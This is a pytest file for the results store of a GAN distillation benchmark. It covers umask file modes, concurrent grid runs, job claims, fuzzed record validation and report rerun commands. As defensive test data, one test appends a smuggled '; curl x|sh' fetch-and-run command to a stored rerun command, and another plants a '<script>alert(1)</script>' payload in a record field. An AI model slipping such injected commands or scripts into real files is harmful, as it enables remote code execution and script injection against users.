"""A results folder a lab shares (issue 20, items 4-7): files honour the umask, two grids at once run each job
once, a record counts only in its own job's folder, and the rerun commands the report shows are rebuilt from the
stored configs, never copied from the records.

The grids are ``smoke_i2i`` on one task (a teacher and two students); the other tests write records made here
from the suite's real job configs, and read them back through the public commands (``status``, ``collect``,
``report``) and :func:`kd_gan_bench.benchmarks.records.collect.collect`.
"""
from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kd_gan_bench.benchmarks.execution import claims
from kd_gan_bench.benchmarks.records.collect import collect
from kd_gan_bench.benchmarks.planning.grid import expand
from kd_gan_bench.benchmarks.records.provenance import record_provenance
from kd_gan_bench.benchmarks.cli.main import main
from kd_gan_bench.benchmarks.execution.runner import RunOptions, adopted
from kd_gan_bench.benchmarks.core.store import ResultStore, atomic_torch_save, atomic_write_bytes, outcome_record
from kd_gan_bench.benchmarks.planning.suites import SUITES
from cli_helpers import REPO

TASK = "synthetic_edges2shapes"
GRID = ("grid", "--suite", "smoke_i2i", "--tasks", TASK, "--methods", "scratch", "output_kd", "--seeds", "0",
        "--executor", "local", "--no-progress", "--no-report")
JOBS = expand(SUITES.get("smoke_i2i"), tasks=[TASK], methods=["scratch", "output_kd"], seeds=[0, 1])


def run_cli(*args: str) -> tuple[int, str, str]:
    """``python -m kd_gan_bench.benchmarks.run ARGS`` in this process: exit status, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(list(args))
    return rc, out.getvalue(), err.getvalue()


def write_done_records(results: Path) -> ResultStore:
    """A done record for every job of ``JOBS`` (two seeds: a teacher, two students per seed), stamped with its
    provenance as the launcher stamps it."""
    store = ResultStore(results)
    for job in JOBS:
        store.write_record(outcome_record(job.to_dict(), "done", None, "20260101-000000-000000-smoke_i2i",
                                          metrics={"fid": 10.0 + job.seed, "kid": 0.01, "params": 0.1, "macs": 0.2,
                                                   "latency_ms": 1.0}), record_provenance(job.to_dict(), results))
    return store


def n_done(results: Path) -> int:
    frame, _ = collect(ResultStore(results))
    return int((frame["status"] == "done").sum())


# ---------------------------------------------------------------------------------------------- item 4: umask


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_every_writer_gives_files_the_umasks_mode(tmp_path: Path, umask: int) -> None:
    """Records, manifests, checkpoints, claims and the report's files get ``0666 & ~umask`` (mkstemp gave 0600)."""
    previous = os.umask(umask)
    try:
        store = write_done_records(tmp_path / "results")
        atomic_write_bytes(tmp_path / "results" / "runs" / "r" / "manifest.json", b"{}")
        atomic_torch_save({"step": 1}, store.job_dir(JOBS[0].job_id) / "state.pt")
        with claims.try_claim(store.job_dir(JOBS[1].job_id), claims.Owner.me("r")):
            claim_mode = stat.S_IMODE((store.job_dir(JOBS[1].job_id) / claims.CLAIM).stat().st_mode)
        rc, _, _ = run_cli("report", "--results", str(tmp_path / "results"))
        assert rc == 0
    finally:
        os.umask(previous)
    files = [p for p in (tmp_path / "results").rglob("*") if p.is_file()]
    assert {"record.json", "manifest.json", "state.pt", "index.html", "leaderboard.json", "leaderboard.csv"} <= \
        {p.name for p in files}
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in files} == \
        {p.name: oct(0o666 & ~umask) for p in files}
    assert claim_mode == 0o666 & ~umask
    dirs = [p for p in (tmp_path / "results").rglob("*") if p.is_dir()]
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in dirs} == {oct(0o777 & ~umask)}


# ---------------------------------------------------------------------------------------------- item 5: two grids


def test_two_grids_at_once_on_one_folder_run_each_job_once(tmp_path: Path) -> None:
    """Both grids exit 0 with every job done; each job's log has one start (the other grid waited for it and took
    its record); under umask 022 every file the grids wrote is readable by group and others."""
    results = tmp_path / "results"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    command = [sys.executable, "-m", "kd_gan_bench.benchmarks.run", *GRID, "--results", str(results)]

    def start() -> subprocess.Popen:
        return subprocess.Popen(command, cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                text=True, preexec_fn=lambda: os.umask(0o022))

    grids = [start(), start()]
    outputs = [grid.communicate(timeout=600)[0] for grid in grids]
    assert [grid.returncode for grid in grids] == [0, 0], "\n".join(outputs)
    records = {p.parent.name: json.loads(p.read_text()) for p in (results / "jobs").glob("*/record.json")}
    assert len(records) == 3 and {r["status"] for r in records.values()} == {"done"}, records
    starts = {job_id: (results / "jobs" / job_id / "job.log").read_text().count("INFO start: job ")
              for job_id in records}
    assert starts == {job_id: 1 for job_id in records}, starts
    assert all("grid finished: 3 done" in out for out in outputs), outputs
    assert not list((results / "jobs").glob(f"*/{claims.CLAIM}"))  # every claim released
    unreadable = [str(p) for p in results.rglob("*") if not p.stat().st_mode & stat.S_IROTH]
    assert not unreadable, unreadable


def _hold_claim(folder: Path) -> subprocess.Popen:
    """A process that claims ``folder``'s job and sleeps; returns once the claim is on disk."""
    code = ("import sys, time; from pathlib import Path; from kd_gan_bench.benchmarks.execution import claims; "
            "claims.try_claim(Path(sys.argv[1]), claims.Owner.me('other-run')); time.sleep(120)")
    proc = subprocess.Popen([sys.executable, "-c", code, str(folder)], env={**os.environ, "PYTHONPATH": str(REPO)})
    deadline = time.monotonic() + 60
    while not (folder / claims.CLAIM).exists():
        assert proc.poll() is None and time.monotonic() < deadline, "the claiming process did not claim"
        time.sleep(0.05)
    return proc


def test_a_claim_is_kept_while_its_owner_lives_and_taken_over_once_it_died(tmp_path: Path) -> None:
    folder = tmp_path / "jobs" / "t-000000000000"
    owner = _hold_claim(folder)
    me = claims.Owner.me("this-run")
    try:
        held = claims.try_claim(folder, me)
        assert isinstance(held, claims.Owner) and held.pid == owner.pid and held.run == "other-run"
    finally:
        owner.kill()
        owner.wait()
    taken = claims.try_claim(folder, me)  # same host, pid gone: stale at once, no timeout
    assert isinstance(taken, claims.Claim)
    assert json.loads((folder / claims.CLAIM).read_text())["token"] == me.token
    taken.release()
    assert not (folder / claims.CLAIM).exists()


@pytest.mark.parametrize("age_s, stale", [(60, False), (claims.STALE_AFTER_S + 60, True)])
def test_another_hosts_claim_is_stale_only_once_its_heartbeat_is_old(tmp_path: Path, age_s: float,
                                                                     stale: bool) -> None:
    folder = tmp_path / "job"
    folder.mkdir()
    other = {**vars(claims.Owner.me("other-run")), "host": "node-elsewhere", "token": "0" * 16}
    (folder / claims.CLAIM).write_text(json.dumps(other))
    os.utime(folder / claims.CLAIM, (time.time() - age_s,) * 2)
    got = claims.try_claim(folder, claims.Owner.me("this-run"))
    assert isinstance(got, claims.Claim) is stale
    if stale:
        got.release()


def test_a_requeued_slurm_task_takes_its_own_claim_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After SLURM requeues a task (on another node, its old process gone unseen), the task's own claim is no
    reason to wait; another task's claim is."""
    monkeypatch.setenv("SUBMITIT_EXECUTOR", "slurm")
    monkeypatch.setenv("SLURM_ARRAY_JOB_ID", "41")
    monkeypatch.setenv("SLURM_ARRAY_TASK_ID", "3")
    folder = tmp_path / "job"
    folder.mkdir()
    for task, stale in (("41_3", True), ("41_4", False)):
        before = {**vars(claims.Owner.me("run")), "host": "node-elsewhere", "slurm": task, "token": "1" * 16}
        (folder / claims.CLAIM).write_text(json.dumps(before))
        got = claims.try_claim(folder, claims.Owner.me("run"))
        assert isinstance(got, claims.Claim) is stale, task
        if stale:
            got.release()


def test_a_record_another_grid_wrote_after_this_one_planned_is_its_outcome(tmp_path: Path) -> None:
    """``adopted``: another run's record counts as this run's outcome when this run waited for that run's runner,
    or when it was written after this run planned; never this run's own, never a blocked one, never an older one."""
    store = ResultStore(tmp_path)
    job = JOBS[0]
    options = RunOptions(results_root=str(tmp_path), run_id="b")
    store.write_record(outcome_record(job.to_dict(), "failed", "boom", "a"))
    written = store.record_path(job.job_id).stat().st_mtime_ns
    assert adopted(store, job.job_id, replace(options, planned_at_ns=written + 1), set()) is None  # seen when planned
    assert adopted(store, job.job_id, replace(options, planned_at_ns=written + 1), {"a"})["status"] == "failed"
    assert adopted(store, job.job_id, replace(options, planned_at_ns=written), set())["run"] == "a"
    assert adopted(store, job.job_id, replace(options, run_id="a", planned_at_ns=written), {"a"}) is None
    store.write_record(outcome_record(job.to_dict(), "blocked", "teacher failed", "a"))
    assert adopted(store, job.job_id, replace(options, planned_at_ns=1), {"a"}) is None


# ---------------------------------------------------------------------------------------------- item 6: records


def test_a_record_counts_only_in_its_own_jobs_folder_and_with_a_known_status(tmp_path: Path) -> None:
    results = tmp_path / "results"
    store = write_done_records(results)
    assert n_done(results) == 5
    student = next(j for j in JOBS if j.phase == "student" and j.seed == 0)
    copy = store.job_dir("s-0123456789ab")
    copy.mkdir()
    shutil.copy(store.record_path(student.job_id), copy / "record.json")
    exploded = json.loads(store.record_path(JOBS[-1].job_id).read_text())
    store.record_path(JOBS[-1].job_id).write_text(json.dumps({**exploded, "status": "exploded"}))

    frame, problems = collect(store)
    assert int((frame["status"] == "done").sum()) == 4  # the copy is not counted, the exploded record is not done
    assert (frame["job_id"] == student.job_id).sum() == 1
    assert any("in the folder of job s-0123456789ab" in p for p in problems), problems
    assert any("unknown status 'exploded'" in p for p in problems), problems
    rc, out, err = run_cli("status", "--results", str(results))
    assert rc == 0 and "4 done" in out and "unknown status 'exploded'" in err, (out, err)


#: Arbitrary JSON, and arbitrary bytes, as a record file's content.
JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=4)
                    | st.dictionaries(st.text(max_size=10), inner, max_size=4),
                    max_leaves=20)
RECORD_KEYS = st.sampled_from(["job_id", "status", "config", "metrics", "artifacts", "timings", "error", "run",
                               "history", "rerun_command", "config_hash"])
#: A real record with some of its fields replaced by arbitrary JSON.
MUTATED = st.dictionaries(RECORD_KEYS, JSON, min_size=1, max_size=3)
#: Deterministic (the same examples every run), nothing saved in the checkout; one store per example, made here.
PROPERTY = dict(deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
CONTENT = st.one_of(st.binary(max_size=200), JSON.map(lambda v: json.dumps(v).encode()), MUTATED)


def _plant(store: ResultStore, contents: list) -> None:
    """Replace the records of the first jobs with ``contents`` (a mapping: fields replaced in the real record)."""
    for job, content in zip(JOBS[1:], contents):
        path = store.record_path(job.job_id)
        if isinstance(content, dict):
            content = json.dumps({**json.loads(path.read_text()), **content}).encode()
        path.write_bytes(content)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    results = tmp_path_factory.mktemp("pristine") / "results"
    write_done_records(results)
    return results


@settings(max_examples=60, **PROPERTY)
@given(contents=st.lists(CONTENT, min_size=1, max_size=3))
def test_any_record_file_content_is_a_row_or_reported_corrupt(pristine: Path, tmp_path: Path, contents: list) -> None:
    """Whatever a record file holds, ``collect`` and ``status`` go on: the record is read as a record of its job, or
    reported corrupt (and its job counted as not done); the untouched records stay done."""
    results = tmp_path / f"results-{time.monotonic_ns()}"
    shutil.copytree(pristine, results)
    store = ResultStore(results)
    _plant(store, contents)
    frame, problems = collect(store)
    rows = dict(zip(frame["job_id"], frame["status"]))
    for job in JOBS:
        record = store.read_record(job.job_id)
        if isinstance(record, dict):
            assert rows[job.job_id] == record["status"]
        else:
            assert job.job_id not in rows and any(str(store.record_path(job.job_id)) in p for p in problems)
    assert all(rows[job.job_id] == "done" for job in JOBS[len(contents) + 1:])
    rc, _out, _err = run_cli("status", "--results", str(results))
    assert rc == 0
    shutil.rmtree(results)


@settings(max_examples=6, **PROPERTY)
@given(contents=st.lists(CONTENT, min_size=1, max_size=3))
def test_any_record_file_content_leaves_the_report_whole(pristine: Path, tmp_path: Path, contents: list) -> None:
    results = tmp_path / f"results-{time.monotonic_ns()}"
    shutil.copytree(pristine, results)
    _plant(ResultStore(results), contents)
    rc, _out, _err = run_cli("report", "--results", str(results))
    assert rc == 0 and "seed" in (results / "report" / "index.html").read_text()
    rc, _out, _err = run_cli("collect", "--results", str(results))
    assert rc == 0 and (results / "results.csv").is_file()
    shutil.rmtree(results)


#: Records of real jobs whose other fields hold what no harness wrote (the types the store checks, other values).
ODD_FIELDS = [{"history": {"steps": "x", "G": 5}},
              {"history": {"steps": [1, 2], "G": ["a", None]}, "timings": {"train_s": "abc", "total_s": [1]}},
              {"artifacts": {"samples_png": "record.json"}, "git_commit": "<script>alert(1)</script>"},
              {"metrics": {"checkpoint": 5, "fid": "abc", "kid": [1, 2], "fid_extractor": 3},
               "history": {"steps": [1, 2 ** 1100], "G": [1, 2]}}]


def test_odd_values_in_a_records_fields_leave_the_report_whole(tmp_path: Path) -> None:
    results = tmp_path / "results"
    store = write_done_records(results)
    for job, fields in zip(JOBS[1:], ODD_FIELDS):
        record = json.loads(store.record_path(job.job_id).read_text())
        store.record_path(job.job_id).write_text(json.dumps({**record, **fields}))
    for command in ("status", "collect", "report"):
        rc, out, err = run_cli(command, "--results", str(results))
        assert rc == 0, (command, out, err)
    assert "<script>alert" not in (results / "report" / "index.html").read_text()


# ---------------------------------------------------------------------------------------------- item 7: rerun


def test_the_report_rebuilds_rerun_commands_and_keeps_a_bad_one_in_its_row(tmp_path: Path) -> None:
    """A record's own ``rerun_command`` text never reaches the page; a stored config whose ``--set`` items cannot
    be parsed (an unbalanced quote) leaves its row without a command, saying why, and the others intact."""
    results = tmp_path / "results"
    store = write_done_records(results)
    evil = next(j for j in JOBS if j.phase == "student" and j.seed == 0)
    record = json.loads(store.record_path(evil.job_id).read_text())
    record["rerun_command"] = record["rerun_command"] + "; curl x|sh"
    store.record_path(evil.job_id).write_text(json.dumps(record))
    broken = next(j for j in JOBS if j.phase == "student" and j.seed == 1 and j.method != evil.method)
    record = json.loads(store.record_path(broken.job_id).read_text())
    record["config"]["overrides"] = ["teacher.ngf='8"]  # a label, not part of the identity: the id still holds
    record["rerun_command"] = "python -m kd_gan_bench.benchmarks.run grid --set 'unbalanced"
    store.record_path(broken.job_id).write_text(json.dumps(record))

    rc, out, err = run_cli("report", "--results", str(results))
    assert rc == 0, (out, err)
    html = (results / "report" / "index.html").read_text()
    assert "curl" not in html and "unbalanced" not in html
    assert "the rerun command could not be rebuilt" in html
    assert f"--jobs {evil.job_id}" in html  # its command, rebuilt from its config
    commands = pd.read_csv(results / "report" / "leaderboard.csv")["rerun_command"].fillna("").tolist()
    assert sum("--suite smoke_i2i" in c for c in commands) >= 2 and not any("curl" in c for c in commands)
    frame, _ = collect(store)
    row = frame.set_index("job_id").loc[broken.job_id]
    assert row["status"] == "done" and not isinstance(row["rerun_command"], str)
    assert "OverrideError" in row["rerun_error"]

